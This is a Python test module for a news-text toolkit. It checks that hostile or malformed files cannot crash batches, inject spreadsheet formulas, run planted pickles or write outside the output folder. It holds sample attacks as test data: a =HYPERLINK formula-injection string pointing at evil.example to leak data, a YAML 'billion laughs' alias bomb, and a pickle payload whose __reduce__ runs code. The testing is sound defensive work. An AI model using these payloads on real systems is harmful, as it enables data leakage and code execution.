"""Hostile and clumsy input (issue 19): nothing a file can do takes down a batch, writes a live
formula, corrupts a table silently or lands outside ``--out``.

The first part has one test per item of the issue's "Why" (each fails on the code before the
fix); the second, property-based tests (hypothesis) over the readers, the loader and the
extractors: no exception escapes ``ak.load``, every input is accounted for, offsets are exact
on every row and the same input gives the same tables.

New names are imported inside the tests so that the module also runs against the old code.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import os
import pickle
import random
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import analystkit as ak
from analystkit.errors import NothingLoadedError
from tests.conftest import ROOT

REPORT_NOTEBOOKS = ROOT / "tests" / "data" / "report_notebooks"
FORMULA_START = ("=", "+", "-", "@")
#: hypothesis: few examples, no database in the checkout, the same examples on every run.
PROPERTIES = settings(max_examples=25, deadline=None, database=None, derandomize=True,
                      suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large])


@pytest.fixture(autouse=True, scope="module")
def _no_shared_cache():
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ANALYSTKIT_CACHE", "off")
        yield


def quiet_load(*paths, **options):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return ak.load(*paths, **options)


def report_rows(corpus, name: str) -> pd.DataFrame:
    report = corpus.load_report
    return report[report.path.map(lambda p: Path(p).name) == name]


def assert_offsets_exact(corpus) -> int:
    """Every row of every per-article table indexes its article's text exactly; returns the rows checked."""
    texts = dict(zip(corpus.articles.article_id, corpus.articles.text))
    checked = 0
    for name in ("sentences", "entities", "claims", "hedges", "actions", "timeline", "flags"):
        table = corpus.table(name)
        for row in table.to_dict(orient="records"):
            text = texts[row["article_id"]]
            assert text[row["start"] : row["end"]] == row["text"], (name, row)
            for prefix, label in (("source", "source_text"), ("cue", "cue")):
                if f"{prefix}_start" in row and row[f"{prefix}_start"] >= 0:
                    assert text[row[f"{prefix}_start"] : row[f"{prefix}_end"]] == row[label], (name, row)
            checked += 1
    return checked


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number such as -1 is a number, not a formula)."""
    import re

    return [c for c in csv_cells(path) if c[:1] in (*FORMULA_START, "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", c)]


# ============================================================================ the "Why", item by item


def test_yaml_alias_bomb_in_front_matter_is_refused_not_expanded(tmp_path, nlp):
    """A 398-byte Markdown file must not take down the batch (a "billion laughs" title)."""
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, 6):
        name, previous = "abcdefghij"[level], "abcdefghij"[level - 1]
        levels.append(f"{name}: &{name} [{','.join('*' + previous for _ in range(9))}]")
    levels.append("title: *f")
    (tmp_path / "bomb.md").write_text("---\n" + "\n".join(levels) + "\n---\n\nThe body of the bomb.\n", encoding="utf-8")
    (tmp_path / "good.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    corpus = quiet_load(tmp_path, nlp=nlp)
    bomb = report_rows(corpus, "bomb.md").iloc[0]
    assert bomb.status == "loaded" and "alias" in bomb.reason
    article = corpus.articles.set_index("article_id").loc[bomb.article_id]
    assert len(article.title) < 200 and "lol" not in article.title
    assert article.text == "The body of the bomb."
    assert report_rows(corpus, "good.txt").status.tolist() == ["loaded"]
    assert len(corpus.sentences) >= 2


def test_spreadsheets_never_get_a_live_formula_and_control_characters_do_not_crash(tmp_path, nlp):
    """Ledger (.xlsx and .csv), ``extract --format csv`` and the explorer's export: text stays text."""
    from analystkit.claims_ledger import ledger as build_ledger
    from analystkit.claims_ledger import write_ledger
    from analystkit.cli import main
    from analystkit.explorer.export import export_claims

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "formula.txt").write_text(
        'title: =HYPERLINK("http://evil.example/?leak","click")\noutlet: @SUM(1+1)*cmd\n\n'
        "=1+2 said the minister on Monday. Officials said -3 was the answer. +44 was the code, police said.\n",
        encoding="utf-8",
    )
    corpus = quiet_load(folder, nlp=nlp)
    frame = build_ledger(corpus)
    assert frame.title.str.startswith("=").all()
    frame.loc[0, "sentence"] = "An escape \x1b[31m character and a bell \x07 in a sentence."
    frame.loc[0, "notes"] = "#REF!"

    xlsx = write_ledger(frame, tmp_path / "ledger.xlsx")  # the ESC used to raise IllegalCharacterError
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # kept, as text
    with zipfile.ZipFile(xlsx) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode("utf-8")

    exported = export_claims(corpus.claims, tmp_path / "claims.csv")
    for path in (write_ledger(frame, tmp_path / "ledger.csv"), exported):
        cells = csv_cells(path)
        assert not formula_cells(path), path.name
        assert any(c.startswith("'=HYPERLINK") for c in cells) or any(c.startswith("'=1+2") for c in cells)

    assert main(["extract", str(folder), "--out", str(tmp_path / "tables"), "--format", "csv", "--quiet"]) == 0
    for table in (tmp_path / "tables").glob("*.csv"):
        assert not formula_cells(table), table.name


def test_row_cache_verifies_every_byte_and_never_unpickles(tmp_path, nlp, monkeypatch):
    """One flipped byte is a miss (never an exception, never altered rows); a planted pickle never runs."""
    from analystkit import cache

    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text("Russia ordered its troops to withdraw on Wednesday, officials said.\n", encoding="utf-8")
    monkeypatch.setenv("ANALYSTKIT_CACHE", str(tmp_path / "cache"))
    fresh = quiet_load(folder, nlp=nlp, metadata=pd.DataFrame([{"file": "a.txt", "published": "2022-11-09"}]))
    expected = {name: fresh.table(name) for name in ("sentences", "claims", "timeline")}
    entries = [p for p in (tmp_path / "cache").rglob("*") if p.is_file() and len(p.name) > 64 and p.parent.parent == tmp_path / "cache"]
    assert len(entries) == 1  # the article's rows (the readers' memo lives in cache/read)
    entry = entries[0]
    key = entry.name[:64]
    rows = cache.RowCache(tmp_path / "cache")
    original = rows.get(key)
    assert original is not None and original["timeline"]
    data = entry.read_bytes()
    rng = random.Random(19)
    outcomes = {"miss": 0, "same": 0}
    for _ in range(400):
        flipped = bytearray(data)
        position = rng.randrange(len(flipped))
        flipped[position] ^= 1 << rng.randrange(8)
        entry.write_bytes(bytes(flipped))
        got = rows.get(key)  # must not raise
        assert got is None or got == original, f"altered rows loaded after flipping byte {position}"
        outcomes["miss" if got is None else "same"] += 1
    assert outcomes["miss"] == 400
    entry.write_bytes(data[: len(data) // 2])
    assert rows.get(key) is None

    # A run over a corrupted cache re-extracts and gives the same tables.
    entry.write_bytes(data[:100] + bytes([data[100] ^ 0x20]) + data[101:])
    again = quiet_load(folder, nlp=nlp, metadata=pd.DataFrame([{"file": "a.txt", "published": "2022-11-09"}]))
    assert again.cache_hits == 0 or again.sentences.equals(expected["sentences"])
    for name, table in expected.items():
        pd.testing.assert_frame_equal(again.table(name), table)

    # A pickle planted where the entry is: never executed.
    marker = tmp_path / "pwned"

    class Payload:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    entry.write_bytes(pickle.dumps(Payload()))
    assert rows.get(key) is None
    assert not marker.exists()


def test_unparsable_front_matter_is_reported_and_kept_out_of_the_text(tmp_path, nlp):
    """An unquoted colon in a headline, a tab: metadata read line by line, a reason, no header sentences."""
    (tmp_path / "colon.md").write_text(
        "---\ntitle: Kherson: Russia orders retreat\noutlet: Wire\n---\n\nRussia ordered its troops out of Kherson.\n", encoding="utf-8"
    )
    (tmp_path / "tab.md").write_text("---\ntitle:\tA tabbed title\npublished: 2022-11-09\n---\n\nThe army said it had withdrawn.\n", encoding="utf-8")
    corpus = quiet_load(tmp_path, nlp=nlp)
    articles = corpus.articles.set_index("article_id")
    for name, title in (("colon.md", "Kherson: Russia orders retreat"), ("tab.md", "A tabbed title")):
        row = report_rows(corpus, name).iloc[0]
        assert row.status == "loaded" and "front matter" in row.reason and "YAML" in row.reason
        assert articles.loc[row.article_id, "title"] == title
        assert "---" not in articles.loc[row.article_id, "text"] and "title:" not in articles.loc[row.article_id, "text"]
    assert articles.loc[report_rows(corpus, "colon.md").article_id.iloc[0], "outlet"] == "Wire"
    assert not corpus.sentences.text.str.contains("title:|---", regex=True).any()
    assert not corpus.claims.text.str.contains("title:", regex=False).any()


def test_partial_and_bad_dates_are_never_completed_from_today(tmp_path, nlp):
    """``2022`` is a year, ``March 2022`` a month, ``Thursday`` alone unknown; a bad date never fails an article."""
    dates = {"year": "2022", "month": "March 2022", "weekday": "Thursday", "impossible": "2024-13-45", "junk": "not-a-date", "day": "2022-11-09"}
    for name, value in dates.items():
        (tmp_path / f"{name}.md").write_text(f"---\ntitle: {name}\npublished: {value}\n---\n\nSome text about {name}.\n", encoding="utf-8")
    corpus = quiet_load(tmp_path, nlp=nlp)
    report = corpus.load_report.set_index("article_id")
    articles = corpus.articles.set_index("article_id")
    assert (corpus.load_report.status == "loaded").all()
    assert articles.loc["day", "published"] == pd.Timestamp("2022-11-09") and report.loc["day", "reason"] == ""
    for name in ("year", "month", "weekday", "impossible", "junk"):
        assert pd.isna(articles.loc[name, "published"]), name  # no day made up from today's date
        assert "published date" in report.loc[name, "reason"], name
    assert articles.loc["year", "published_period"] == "2022" and "year" in report.loc["year", "reason"]
    assert articles.loc["month", "published_period"] == "2022-03" and "month" in report.loc["month", "reason"]
    assert articles.loc["weekday", "published_period"] == "" and "no year" in report.loc["weekday", "reason"]
    from analystkit.io.loader import read_date

    assert read_date(2022).period == "2022" and read_date("Thursday").date is None
    assert read_date(dt.datetime(2022, 11, 9, 12)).date == dt.date(2022, 11, 9)


def test_a_csv_field_over_131072_characters_loses_only_what_is_too_long(tmp_path):
    """Python's default CSV field limit no longer drops the whole file; a field over the kit's limit costs one row."""
    long_text = ("Officials said the talks would resume. " * 6000).strip()  # about 234,000 characters
    rows = [{"title": "long", "text": long_text}, {"title": "short", "text": "The army said it withdrew."}]
    pd.DataFrame(rows).to_csv(tmp_path / "feed.csv", index=False)
    corpus = quiet_load(tmp_path)  # the tables are not needed: nothing is extracted here
    report = corpus.load_report
    assert report.status.tolist() == ["loaded", "loaded"]
    assert sorted(corpus.text(a) for a in report.article_id) == sorted([long_text, rows[1]["text"]])

    ak.limits.set(csv_field_chars=100_000)
    try:
        corpus = quiet_load(tmp_path)
    finally:
        ak.limits.set(csv_field_chars=None)
    report = corpus.load_report
    assert [corpus.text(a) for a in report[report.status == "loaded"].article_id] == [rows[1]["text"]]
    failed = report[report.status == "failed"]
    assert len(failed) == 1 and "csv_field_chars" in failed.reason.iloc[0]


def test_output_read_back_as_input_is_skipped(tmp_path, nlp):
    """``extract X --out X/tables`` run twice, and a report folder inside the input, add no "articles"."""
    from analystkit.cli import main
    from analystkit.report import run_report

    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text("Officials said the bridge was closed on Monday.\n", encoding="utf-8")
    (folder / "b.txt").write_text("The army denied it, a spokesman said.\n", encoding="utf-8")
    for _ in range(2):
        assert main(["extract", str(folder), "--out", str(folder / "tables"), "--quiet"]) == 0
    assert len(pd.read_csv(folder / "tables" / "articles.csv")) == 2
    assert run_report([str(folder)], out=folder / "report", notebooks=["01_tiny"], notebook_dir=REPORT_NOTEBOOKS, progress=False) == 0
    # the same outputs copied elsewhere, without the marker the kit writes
    copy = tmp_path / "copied"
    copy.mkdir()
    for source in [*(folder / "tables").glob("*.csv"), *(folder / "report").glob("*.html")]:
        (copy / source.name).write_bytes(source.read_bytes())
    corpus = quiet_load(folder, copy, nlp=nlp)
    assert sorted(corpus.article_ids) == ["a", "b"]
    skipped = corpus.load_report[corpus.load_report.status == "skipped"]
    assert skipped.reason.str.contains("analystkit|Jupyter", regex=True).sum() >= 3


def test_notebooks_are_told_where_to_write_and_relative_writes_stay_inside_out(tmp_path):
    """``analystkit report --out X``: a notebook's files land in X (``OUTPUT_DIR``, and its working folder is inside X)."""
    import nbformat

    from analystkit.report import run_report

    notebooks = tmp_path / "checkout" / "notebooks"
    notebooks.mkdir(parents=True)
    cells = [
        nbformat.v4.new_code_cell('ARTICLES = "../data/articles"\nOUTPUT_DIR = "../reports"', metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell(
            "import os\nfrom pathlib import Path\n"
            "Path('../reports').mkdir(exist_ok=True)\nPath('../reports/relative.txt').write_text('x')\n"
            "Path(OUTPUT_DIR, 'ledger.txt').write_text('x')\n"
            "assert os.environ['ANALYSTKIT_OUTPUT_DIR'] == OUTPUT_DIR"
        ),
    ]
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}, "language_info": {"name": "python"}}
    nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata=metadata), notebooks / "01_writes.ipynb")
    article = tmp_path / "a.txt"
    article.write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    out = tmp_path / "elsewhere"
    assert run_report([str(article)], out=out, notebook_dir=notebooks, progress=False) == 0
    assert (out / "ledger.txt").exists()
    assert not (tmp_path / "checkout" / "reports").exists()  # nothing written next to the notebooks
    assert [p for p in out.rglob("relative.txt")]


def test_encodings_are_never_replaced_silently(tmp_path, nlp):
    """A UTF-8 BOM before cp1252 bytes, UTF-16 without a BOM, NUL bytes early and late."""
    (tmp_path / "bom_cp1252.txt").write_bytes(codecs.BOM_UTF8 + "Café owners in Kyiv said \u201cno\u201d.".encode("cp1252"))
    (tmp_path / "utf16.txt").write_bytes("Officials in Kyiv said the bridge was closed.\n".encode("utf-16-le"))
    (tmp_path / "nul_early.txt").write_bytes(b"Officials\x00 said the bridge was closed.\n" + b"More text here. " * 10)
    (tmp_path / "nul_late.txt").write_bytes(b"Officials said the bridge was closed. " * 400 + b"The end\x00 came.\n")
    corpus = quiet_load(tmp_path, nlp=nlp)
    report = corpus.load_report.set_index(corpus.load_report.path.map(lambda p: Path(p).name))
    texts = corpus.articles.set_index("article_id").text
    assert (report.status == "loaded").all(), report[["status", "reason"]]
    assert "byte-order mark" in report.loc["bom_cp1252.txt", "reason"]
    assert texts[report.loc["bom_cp1252.txt", "article_id"]] == "Café owners in Kyiv said “no”."
    assert "UTF-16" in report.loc["utf16.txt", "reason"]
    assert texts[report.loc["utf16.txt", "article_id"]] == "Officials in Kyiv said the bridge was closed."
    for name in ("nul_early.txt", "nul_late.txt"):
        assert "NUL" in report.loc[name, "reason"]
        assert "\x00" not in texts[report.loc[name, "article_id"]]
    assert not corpus.articles.text.str.contains("\ufffd").any()


def _draws(fig) -> bool:
    fig.savefig(io.BytesIO(), format="png")
    return True


def test_plots_draw_a_corpus_without_actors():
    """The report's actors chart over a corpus with no actors: a figure that says so, not an error."""
    import matplotlib

    matplotlib.use("Agg")
    from analystkit.plots import actors, integrity, sourcing

    entities = pd.DataFrame(columns=["article_id", "sentence_id", "start", "end", "text", "label", "actor", "nested"])
    sentences = pd.DataFrame(columns=["article_id", "sentence_id", "text"])
    assert _draws(actors.plot_top_actors(entities))
    assert actors.top_actors(entities).empty
    assert _draws(actors.plot_mentions_through_article(actors.mentions_through_article(entities, sentences, "a")))
    assert _draws(sourcing.plot_source_mix(pd.DataFrame(columns=["article_id", "source_type"])))
    assert _draws(integrity.plot_integrity(pd.DataFrame(columns=["article_id", "n_flags"])))


def test_plots_draw_names_with_dollars():
    """``$`` in an outlet or actor name is a dollar, not matplotlib maths text (which fails to draw)."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from analystkit.plots import actors, sourcing

    claims = pd.DataFrame([
        {"article_id": "a", "source_type": "named_person", "outlet": "$\\mathrm{X}$ $News$ and $\\foo$"},
        {"article_id": "b", "source_type": "author", "outlet": "Ke$ha Daily $\\oops$"},
    ])
    assert _draws(sourcing.plot_source_mix(claims, by="outlet"))
    entities = pd.DataFrame([{"article_id": "a", "sentence_id": 0, "start": 0, "end": 1, "text": "x", "label": "ORG", "actor": actor, "nested": False}
                             for actor in ("$\\foo$ Corp", "$5 and $6 Ltd")])
    assert _draws(actors.draw_graph(actors.cooccurrence_graph(entities)))
    with matplotlib.rc_context():
        ak.setup()
        fig, ax = plt.subplots()
        pd.Series([1, 2], index=["$\\foo$ Times", "Other"]).plot.barh(ax=ax)  # a notebook's own pandas plot
        assert _draws(fig)
        plt.close(fig)


def test_extract_exits_non_zero_when_every_article_failed(tmp_path, monkeypatch, capsys):
    from analystkit.cli import main
    from analystkit.extract import EXTRACTORS, Extractor

    def broken(article):
        raise RuntimeError("boom")

    monkeypatch.setitem(EXTRACTORS, "sentences", Extractor("sentences", broken))
    (tmp_path / "a.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        status = main(["extract", str(tmp_path / "a.txt"), "--out", str(tmp_path / "out"), "--quiet"])
    assert status == 1
    assert "No article could be extracted" in capsys.readouterr().err


@pytest.mark.parametrize("mistake", ["metadata", "out_is_file", "report_out_is_file", "ledger_out_is_folder", "jobs", "missing_input", "bad_limit"])
def test_cli_mistakes_get_a_catalogue_message_before_any_work(tmp_path, monkeypatch, capsys, mistake):
    from analystkit import cli, corpus

    def no_work(*args, **kwargs):
        raise AssertionError("the command started work before checking its arguments")

    monkeypatch.setattr(corpus, "load", no_work)
    (tmp_path / "a.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    (tmp_path / "file.txt").write_text("not a folder", encoding="utf-8")
    article = str(tmp_path / "a.txt")
    argv, expected = {
        "metadata": (["extract", article, "--out", str(tmp_path / "o"), "--metadata", str(tmp_path / "missing.csv")], "does not exist"),
        "out_is_file": (["extract", article, "--out", str(tmp_path / "file.txt")], "is a file"),
        "ledger_out_is_folder": (["ledger", article, "--out", str(tmp_path)], "is a folder"),
        "jobs": (["extract", article, "--out", str(tmp_path / "o"), "--jobs", "0"], "--jobs must be"),
        "missing_input": (["extract", str(tmp_path / "nope"), "--out", str(tmp_path / "o")], "does not exist"),
        "bad_limit": (["extract", article, "--out", str(tmp_path / "o")], "ANALYSTKIT_MAX_ARTICLE_CHARS='lots'"),
        "report_out_is_file": (["report", article, "--out", str(tmp_path / "file.txt")], "is a file"),
    }[mistake]
    if mistake == "bad_limit":
        monkeypatch.setenv("ANALYSTKIT_MAX_ARTICLE_CHARS", "lots")
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert expected in err and "Traceback" not in err


def test_a_named_pipe_never_hangs_the_batch(tmp_path):
    """A FIFO on the command line, in a folder or as a glob match: reported, never opened for a blocking read."""
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes on this platform")
    folder = tmp_path / "in"
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")
    (folder / "good.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    script = (
        "import warnings, sys, analystkit as ak\nwarnings.simplefilter('ignore')\n"
        f"c = ak.load({str(folder / 'pipe.txt')!r}, {str(folder)!r}, {str(folder / 'pi*.txt')!r})\n"
        "print(sorted(set(zip(c.load_report.path.str.rsplit('/', n=1).str[-1], c.load_report.status))))\n"
    )
    env = {**os.environ, "ANALYSTKIT_CACHE": "off"}
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, env=env, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    assert "('good.txt', 'loaded')" in result.stdout and "('pipe.txt', 'skipped')" in result.stdout
    from analystkit.cli import main

    assert main(["extract", str(folder / "pipe.txt"), "--out", str(tmp_path / "out")]) == 2


def test_non_ascii_file_names_give_readable_ids(tmp_path):
    for name in ("Путин говорит.txt", "北京 新闻.txt", "Zelensky – Kyiv.txt", "café.txt"):
        (tmp_path / name).write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    ids = set(quiet_load(tmp_path).article_ids)
    assert ids == {"путин-говорит", "北京-新闻", "zelensky-kyiv", "café"}


# ============================================================================ further hostile input


def test_json_with_lone_surrogates_huge_numbers_and_deep_nesting(tmp_path, nlp):
    (tmp_path / "feed.jsonl").write_text(
        '{"text": "Broken \\ud800 surrogate, officials said.", "title": "a"}\n'
        '{"text": "A number", "id": ' + "9" * 5000 + "}\n" + "[" * 100_000 + "\n"
        '{"text": "Fine text.", "title": "c\\u001b[31m"}\n',
        encoding="utf-8",
    )
    corpus = quiet_load(tmp_path, nlp=nlp)
    report = corpus.load_report
    assert report.status.tolist().count("loaded") == 2 and report.status.tolist().count("failed") == 2
    first = report[report.status == "loaded"].iloc[0]
    assert "\ufffd" in corpus.text(first.article_id) and "surrogate" in first.reason
    assert corpus.articles.title.tolist()[1] == "c[31m"
    out = tmp_path / "out"
    corpus.articles.pipe(lambda a: ak.io.write_csv(a, out.with_suffix(".csv")))  # writable: no lone surrogates left


def test_file_names_that_are_not_utf8_and_oversized_input(tmp_path):
    if sys.platform == "darwin":
        pytest.skip("macOS file names must be UTF-8")
    bad = os.fsencode(str(tmp_path)) + b"/caf\xe9 \xff.txt"
    with open(bad, "wb") as handle:
        handle.write(b"Officials said the bridge was closed.\n")
    (tmp_path / "big.txt").write_text("word " * 300_000, encoding="utf-8")
    ak.limits.set(max_article_chars=1_000_000, max_file_bytes=1_000_000)
    try:
        corpus = quiet_load(tmp_path)
    finally:
        ak.limits.set(max_article_chars=None, max_file_bytes=None)
    report = corpus.load_report
    assert report.path.map(lambda p: p.encode("utf-8") is not None).all()  # printable, encodable
    assert "failed" in set(report.status) and report.reason.str.contains("max_file_bytes").any()
    assert corpus.article_ids == ["caf"]
    corpus.to_files(tmp_path / "out", tables=[])  # the load report with such a path can be written


def test_missing_metadata_file_is_a_catalogue_error_in_python_too(tmp_path):
    from analystkit.errors import MetadataError

    (tmp_path / "a.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    with pytest.raises(MetadataError, match="does not exist"):
        ak.load(tmp_path, metadata=tmp_path / "missing.csv")
    with pytest.raises(ValueError):  # a MetadataError is a ValueError, as before
        ak.load(tmp_path, metadata=tmp_path)


def test_links_loops_devices_and_hidden_folders_each_get_one_row(tmp_path):
    (tmp_path / "good.txt").write_text("Officials said the bridge was closed.\n", encoding="utf-8")
    os.symlink(tmp_path / "b.txt", tmp_path / "a.txt")
    os.symlink(tmp_path / "a.txt", tmp_path / "b.txt")
    os.symlink("/dev/zero", tmp_path / "zero.txt")
    os.symlink(tmp_path / "nowhere.txt", tmp_path / "dangling.txt")
    (tmp_path / ".git" / "objects").mkdir(parents=True)
    for i in range(50):
        (tmp_path / ".git" / "objects" / f"{i}.txt").write_text("x", encoding="utf-8")
    corpus = quiet_load(tmp_path)
    report = corpus.load_report.set_index(corpus.load_report.path.map(lambda p: Path(p).name))
    assert len(report) == 6 and corpus.article_ids == ["good"]
    assert report.loc["zero.txt", "status"] == "skipped" and "device" in report.loc["zero.txt", "reason"]
    assert {report.loc[n, "status"] for n in ("a.txt", "b.txt", "dangling.txt")} == {"failed"}
    assert "hidden folder" in report.loc[".git", "reason"]


def test_limits_are_visible_and_settings_are_checked(monkeypatch):
    from analystkit.errors import SettingError

    table = ak.limits.current()
    assert set(table.limit) >= {"max_article_chars", "csv_field_chars", "max_sentence_chars", "max_file_bytes"}
    monkeypatch.setenv("ANALYSTKIT_MAX_SENTENCE_CHARS", "3,000")
    assert ak.limits.get("max_sentence_chars") == 3000
    monkeypatch.setenv("ANALYSTKIT_MAX_SENTENCE_CHARS", "lots")
    with pytest.raises(SettingError, match="positive whole number"):
        ak.limits.get("max_sentence_chars")


def test_csv_rule_round_trips_exactly(tmp_path):
    from analystkit.io.spreadsheet import read_csv_table, write_csv

    frame = pd.DataFrame({"text": ["=1+1", "'=x", "-5 km", "plain", "''@a", "NA", "\tx"], "start": range(7)})
    path = write_csv(frame, tmp_path / "t.csv")
    assert not formula_cells(path)
    back = read_csv_table(path)
    assert back.text.tolist() == frame.text.tolist() and back.start.tolist() == list(range(7))


# ============================================================================ properties (hypothesis)

SUFFIXES = [".txt", ".md", ".json", ".jsonl", ".csv", ".html"]
TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=300)
WORDS = st.lists(st.sampled_from([
    "Russia", "said", "officials", "may", "the", "troops", "\u201cwe", "will\u201d", "withdraw", "Kherson", "on", "Wednesday",
    "according", "to", "Kyiv", ".", ",", "\n", "\n\n", "\"", "(", ")", "—", "perhaps", "NATO", "Biden", "told", "reporters", ":",
]), max_size=40).map(" ".join)


def _json_containers(inner):
    keys = st.sampled_from(["text", "title", "body", "published", "id", "articles"])
    return st.one_of(st.lists(inner, max_size=3), st.dictionaries(keys, inner, max_size=3))


JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | TEXT, _json_containers, max_leaves=8)


@st.composite
def front_matter(draw):
    keys = st.sampled_from(["title", "published", "outlet", "url", "author", "id", "note", "Title", "tags"])
    meta = draw(st.dictionaries(keys, TEXT, max_size=5))
    body = draw(WORDS.filter(lambda s: s.strip()))
    style = draw(st.sampled_from(["yaml", "raw", "garbage"]))
    if style == "yaml":
        import yaml

        block = yaml.safe_dump(meta, allow_unicode=True)
    elif style == "raw":
        block = "".join(f"{k}: {v}\n" for k, v in meta.items())
    else:
        block = draw(TEXT)
    return f"---\n{block}\n---\n{body}\n", meta, body, style


@st.composite
def csv_file(draw):
    columns = draw(st.lists(st.sampled_from(["text", "title", "body", "date", "", "id", "x", "TEXT"]), min_size=1, max_size=5))
    rows = draw(st.lists(st.lists(TEXT, max_size=len(columns) + 1), max_size=5))
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    writer.writerows(rows)
    return buffer.getvalue()


@st.composite
def input_files(draw):
    files = {}
    for index in range(draw(st.integers(1, 4))):
        suffix = draw(st.sampled_from(SUFFIXES))
        kind = draw(st.sampled_from(["bytes", "text", "front", "csv", "json"]))
        if kind == "bytes":
            data = draw(st.binary(max_size=300))
        elif kind == "text":
            data = draw(TEXT).encode(draw(st.sampled_from(["utf-8", "utf-16", "utf-8-sig"])), "replace")
        elif kind == "front":
            data = draw(front_matter())[0].encode("utf-8")
        elif kind == "csv":
            data = draw(csv_file()).encode("utf-8")
        else:
            data = json.dumps(draw(JSON_VALUES)).encode("utf-8")
        files[f"f{index}{suffix}"] = data
    return files


def _load_files(folder: Path, files: dict[str, bytes], **options):
    folder.mkdir(parents=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    try:
        return quiet_load(folder, **options), None
    except NothingLoadedError as error:
        return None, error


@PROPERTIES
@given(text=TEXT)
def test_property_readers_never_raise(text):
    from analystkit.io.readers import READERS

    for suffix, reader in READERS.items():
        if suffix in (".html", ".htm"):
            continue  # trafilatura: covered by the loader properties
        articles, problems = reader(text)
        assert all(isinstance(a.text, str) for a in articles)
        assert all(isinstance(p.reason, str) and p.reason for p in problems)


@PROPERTIES
@given(data=st.binary(max_size=2000))
def test_property_decode_never_raises(data):
    from analystkit.io.loader import decode

    text, encoding, caveat = decode(data)
    assert text is None or isinstance(text, str)
    assert text is not None or caveat


@PROPERTIES
@given(case=front_matter())
def test_property_front_matter_never_leaks_into_the_text(case):
    from analystkit.io.readers import read_header

    text, meta, body, style = case
    header = read_header(text)
    assert header.has_header and header.body == body + "\n"
    if style == "yaml":
        assert header.meta == {k.lower(): v for k, v in meta.items()} or len({k.lower() for k in meta}) < len(meta)


@settings(PROPERTIES, max_examples=20)
@given(files=input_files())
def test_property_load_accounts_for_every_input_and_is_deterministic(tmp_path_factory, nlp, files):
    """No exception but NothingLoadedError escapes ``ak.load``; each file has a report row; twice → same tables
    (the articles table is extracted, so the extractors see arbitrary text too)."""
    base = tmp_path_factory.mktemp("load")
    first, error = _load_files(base / "one", files, nlp=nlp)
    second, _ = _load_files(base / "two", files, nlp=nlp)
    report = first.load_report if first is not None else error.load_report
    assert set(report.path.map(lambda p: Path(p).name)) >= set(files)
    assert report.status.isin(["loaded", "skipped", "failed"]).all()
    if first is None:
        assert second is None and not (report.status == "loaded").any()
        return
    loaded = report[report.status == "loaded"]
    assert set(loaded.article_id) == set(first.article_ids)
    pd.testing.assert_frame_equal(first.articles.drop(columns="source_path"), second.articles.drop(columns="source_path"))
    pd.testing.assert_frame_equal(first.load_report.drop(columns="path"), second.load_report.drop(columns="path"))
    assert_offsets_exact(first)


@settings(PROPERTIES, max_examples=20)
@given(texts=st.lists(WORDS.filter(lambda s: any(c.isalpha() for c in s)), min_size=1, max_size=2))
def test_property_extraction_offsets_exact_and_repeatable(tmp_path_factory, nlp, texts):
    """Short arbitrary articles: every row of every table indexes its article exactly; twice → same tables."""
    files = {f"a{i}.txt": text.encode("utf-8") for i, text in enumerate(texts)}
    base = tmp_path_factory.mktemp("extract")
    first, _ = _load_files(base / "one", files, nlp=nlp)
    second, _ = _load_files(base / "two", files, nlp=nlp)
    assert first is not None and second is not None
    assert_offsets_exact(first)
    for name in ("sentences", "entities", "claims", "hedges", "actions", "timeline", "flags"):
        pd.testing.assert_frame_equal(first.table(name), second.table(name))


@PROPERTIES
@given(cells=st.lists(TEXT, min_size=1, max_size=8))
def test_property_csv_rule_is_reversible_and_leaves_no_formula(tmp_path_factory, cells):
    from analystkit.io.spreadsheet import (
        escape_csv_text,
        read_csv_table,
        unescape_csv_text,
        write_csv,
    )

    for cell in cells:
        assert unescape_csv_text(escape_csv_text(cell)) == cell
    frame = pd.DataFrame({"text": [c.replace("\r", "") for c in cells]})
    path = write_csv(frame, tmp_path_factory.mktemp("csv") / "t.csv")
    assert not formula_cells(path)
    back = read_csv_table(path)
